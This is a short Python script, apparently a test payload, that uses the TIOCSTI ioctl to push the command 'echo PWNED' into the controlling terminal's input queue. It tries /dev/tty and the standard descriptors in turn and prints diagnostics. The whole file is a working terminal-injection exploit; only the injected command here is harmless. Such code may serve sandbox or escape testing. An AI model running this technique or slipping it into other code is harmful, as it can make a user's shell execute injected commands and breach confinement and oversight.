# D: TIOCSTI - push "echo PWNED\n" into the controlling terminal's input queue
import os, fcntl, termios
print("PAYLOAD-START", flush=True)
print("D: isatty 0/1/2:", [os.isatty(x) for x in (0, 1, 2)], flush=True)
fds = []
try:
    fds.append(os.open("/dev/tty", os.O_RDWR)); print("D: /dev/tty open ok", flush=True)
except OSError as e:
    print("D: /dev/tty open failed:", e, flush=True)
fds += [x for x in (0, 1, 2) if os.isatty(x)]
for fd in fds:
    try:
        for c in b"echo PWNED\n":
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))
        print("D: TIOCSTI ok on fd", fd, flush=True); break
    except OSError as e:
        print("D: TIOCSTI failed on fd", fd, ":", e, flush=True)
